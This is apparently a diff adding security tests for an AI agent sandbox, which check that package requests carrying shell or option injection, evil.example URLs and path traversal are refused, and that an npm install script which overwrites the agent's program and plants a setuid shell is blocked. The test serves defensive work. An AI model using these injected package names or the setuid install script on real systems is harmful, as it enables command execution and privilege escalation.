@@ -1,0 +1,89 @@
+import { randomBytes } from "node:crypto";
+import { rm, writeFile } from "node:fs/promises";
+import { join } from "node:path";
+import { setTimeout as delay } from "node:timers/promises";
+
+import type { Attack } from "../suite/attack.ts";
+import { openEvilRegistry, ownAddress } from "../suite/evil-registry.ts";
+import type { Stage } from "../suite/stage.ts";
+
+const names = [
+  { apt: ["jq; touch /tmp/x"] },
+  { apt: ["$(reboot)"] },
+  { apt: ["-oAPT::Update::Pre-Invoke::=sh"] },
+  { apt: ["bash-"] },
+  { pip: ["--index-url=http://evil.example"] },
+  { pip: ["git+https://evil.example/x.git"] },
+  { npm: ["../../etc"] },
+  { npm: ["evil/repository"] },
+  { npm: ["x@https://evil.example/x.tgz"] },
+];
+
+/** What the list says of the image with that package as soon as it is not being built any more; a build takes a while. */
+async function untilBuilt(stage: Stage, name: string): Promise<string> {
+  const end = AbortSignal.timeout(buildMs);
+  for (;;) {
+    const { output } = await stage.command("image", "list", "--json");
+    const line = output.split("\n").find((one) => one.includes(name)) ?? "";
+    if (/"state":"(?:failed|ready)"/.test(line) || end.aborted) return line;
+    await delay(500);
+  }
+}
+
+const buildMs = 300_000;
+
+export const attacks: readonly Attack[] = [
+  {
+    id: "L8",
+    title: "an agent asks for packages by names that are options, words of a shell, addresses and paths",
+    from: "container",
+    expected: "each is refused at once, and nobody is asked",
+    audit: { type: "tool-denied", where: ({ group, data }) => group === "red" && data["name"] === "request_packages" },
+    attempt: async (stage) => {
+      const all = [];
+      // In several turns: one that gets nothing but refusals is ended.
+      for (const half of [names.slice(0, 5), names.slice(5)]) {
+        const { outputs } = await stage.calls(
+          "red",
+          half.map((input) => [{ name: "request_packages", input }]),
+        );
+        all.push(...outputs);
+      }
+      const { output } = await stage.command("approvals", "list", "--group", "red", "--json");
+      const isRefused =
+        all.length === names.length && all.every((said) => said.includes("is not the name of a package"));
+      return { seen: `${all.length} refused`, holds: isRefused && !output.includes("request_packages") };
+    },
+  },
+  {
+    id: "L9",
+    title: "a package whose scripts replace the agent's program, the Node that runs it, and leave a setuid shell",
+    from: "program",
+    expected: "the image is refused, and the group goes on with the image that it had",
+    audit: { type: "image-failed" },
+    skip: () => (ownAddress() === undefined ? "this machine is in no network" : undefined),
+    attempt: async (stage) => {
+      const script =
+        "echo evil >> /opt/crabpot/agent.cjs; cp /bin/true /usr/local/sbin/node; cp /bin/sh /s; chmod 4755 /s";
+      await using registry = await openEvilRegistry(ownAddress() ?? "", script);
+      const settings = join(stage.playground.userHome, ".npmrc");
+      const look = "cat /opt/crabpot/agent.cjs /usr/local/sbin/node /s 2>/dev/null | sha256sum | cut -c1-64";
+      const before = await stage.shell("red", look);
+      await writeFile(settings, `registry=${registry.url}\n`);
+      const evil = `evil-${randomBytes(4).toString("hex")}`;
+      try {
+        await stage.command("groups", "set", "red", "image", `{ npm: [${evil}] }`);
+        const built = await untilBuilt(stage, evil);
+        const after = await stage.shell("red", look);
+        const sum = /[0-9a-f]{64}/;
+        const [was, is] = [before, after].map(({ outputs }) => sum.exec(outputs[0] ?? "")?.[0]);
+        const isRefused = built.includes('"state":"failed"') && built.includes("change /opt/crabpot/agent.cjs");
+        const seen = is === was ? built.slice(0, 300) : "another program of the agent's";
+        return { seen, holds: isRefused && was !== undefined && is === was };
+      } finally {
+        await stage.command("groups", "unset", "red", "image");
+        await rm(settings, { force: true });
+      }
+    },
+  },
+];
